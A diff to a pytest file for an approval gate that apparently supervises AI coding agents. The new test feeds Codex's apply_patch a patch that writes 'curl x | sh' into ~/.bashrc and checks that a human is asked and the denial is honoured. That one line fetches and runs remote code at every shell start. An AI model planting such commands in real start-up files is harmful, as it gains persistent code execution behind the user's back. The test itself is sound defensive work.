@@ -143,6 +143,7 @@ class World:
         self.env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(self.home),
                     "AEGIS_HOME": str(self.aegis_home)}
         self.status_while_pending: dict[str, Any] = {}
+        self.listed_while_pending: list[dict[str, Any]] = []
         self.hooks_turned_off = False  # the user's own settings say hooks off
 
     def aegis(self, *args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
@@ -189,6 +190,7 @@ class World:
             while time.monotonic() < deadline:
                 listed = json.loads(self.aegis("approvals", "list", "--json").stdout or "[]")
                 if listed:
+                    self.listed_while_pending = listed
                     self.status_while_pending = json.loads(self.aegis("status", "--json").stdout or "{}")
                     self.aegis(*(listed[0]["id"] if word == "{id}" else word for word in command))
                     return
@@ -279,6 +281,31 @@ def test_allow_for_the_session_lets_the_same_call_through_again(world: World) ->
     assert len(world.audit_events("approval.requested")) == 1
     (granted,) = world.audit_events("call.allowed_by_grant")
     assert granted["details"]["agent"] == world.agent.name
+    world.verify_audit()
+
+
+def test_a_patch_is_judged_by_the_files_it_touches_and_the_approval_names_them(world: World) -> None:
+    """Codex's apply_patch writing a shell start-up file asks a human like a write to it
+    would, and what the human sees names that file and the rule, then the patch itself."""
+    if world.agent.name != "codex":
+        pytest.skip("apply_patch is Codex's tool")
+    from aegis_codex.testing.fake_openai import patch
+
+    startup, note = world.home / ".bashrc", world.project / "notes.txt"
+    body = f"*** Begin Patch\n*** Add File: {note}\n+hello\n*** Add File: {startup}\n+curl x | sh\n*** End Patch\n"
+    answering = world.when_pending("approvals", "deny", "{id}", "--reason", "not my bashrc")
+    done, fake = world.wrap([patch(body), text("ok")])
+    answering.join(30)
+    assert done.returncode == 0, done.stderr
+    assert not startup.exists() and not note.exists()
+    (pending,) = world.listed_while_pending
+    shown = json.dumps(pending)
+    assert str(startup) in shown and "persist-startup-files" in shown, shown
+    reason = pending.get("reason") or ""
+    assert str(startup) in reason and "Begin Patch" not in reason, pending
+    assert "not my bashrc" in world.agent.tool_outputs(fake)
+    (asked,) = world.audit_events("approval.requested")
+    assert asked["details"]["tool"] == "apply_patch"
     world.verify_audit()
 
 
